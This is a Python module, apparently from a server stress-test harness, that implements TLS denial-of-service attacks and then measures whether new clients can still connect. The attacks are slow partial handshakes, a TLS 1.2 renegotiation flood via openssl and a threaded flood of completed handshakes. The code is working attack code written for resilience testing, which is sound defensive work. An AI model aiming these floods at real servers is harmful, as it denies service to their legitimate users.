"""Attacks by TLS."""

import socket
import ssl
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

from attacks import FLOOD_SECONDS, PATIENCE, Answers, Attack, until_closed
from server import Address, Server


def client_hello() -> bytes:
    """What a client of TLS says first."""
    context = ssl.create_default_context()
    outgoing = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


def encrypted_newcomer(address: Address) -> Answers:
    """The same as `newcomer` with TLS."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    start = time.monotonic()
    try:
        with socket.create_connection(address, timeout=PATIENCE) as plain, context.wrap_socket(plain) as stream:
            stream.sendall(b"GET /v1/models HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
            is_good = stream.recv(12).endswith(b"200")
    except OSError:
        is_good = False
    return Answers({f"newcomer in {time.monotonic() - start:.1f} s" if is_good else "no answer": 1})


def handshakes(count: int, share: float, seconds: float) -> Attack:
    """Handshakes of TLS of which a share of the first message comes, and then a byte each half second."""
    hello = client_hello()
    length = int(share * len(hello))

    def run(server: Server) -> Answers:
        streams, answers = [], Answers()
        for _ in range(count):
            try:
                stream = socket.create_connection(server.http, timeout=2)
                stream.sendall(hello[:length])
                streams.append(stream)
            except OSError:
                answers["cut"] += 1
        answers += encrypted_newcomer(server.http)
        sent = dict.fromkeys(streams, length)

        def look(stream: socket.socket) -> bool:
            stream.sendall(hello[sent[stream] : sent[stream] + 1])
            sent[stream] += 1
            stream.setblocking(False)
            return bool(stream.recv(1 << 16))

        answers.update(until_closed(streams, seconds, 0.5, look))
        return answers

    return run


def renegotiation(server: Server) -> Answers:
    """Asks within TLS 1.2 to shake hands again, as often as it is done."""
    command = ["openssl", "s_client", "-connect", "{}:{}".format(*server.http), "-tls1_2", "-legacy_renegotiation"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as client:
        end = time.monotonic() + FLOOD_SECONDS
        try:
            while client.poll() is None and time.monotonic() < end:
                client.stdin.write(b"R\n")
                client.stdin.flush()
                time.sleep(0.1)
        except OSError:
            pass
        client.kill()
        # It asks again when it was done.
        asked = client.stdout.read().count(b"RENEGOTIATING")
    return Answers({["no answer", "not done"][asked] if asked < 2 else "went on": 1})


def hands(count: int) -> Attack:
    """Handshakes that are finished, for nothing, as fast as they can be."""

    def one(address: Address) -> Answers:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        answers = Answers()
        end = time.monotonic() + FLOOD_SECONDS
        while time.monotonic() < end:
            try:
                with socket.create_connection(address, timeout=PATIENCE) as plain, context.wrap_socket(plain):
                    answers["shaken"] += 1
            except OSError:
                answers["cut"] += 1
        return answers

    def run(server: Server) -> Answers:
        with ThreadPoolExecutor(count) as pool:
            return sum(pool.map(one, [server.http] * count), Answers()) + encrypted_newcomer(server.http)

    return run
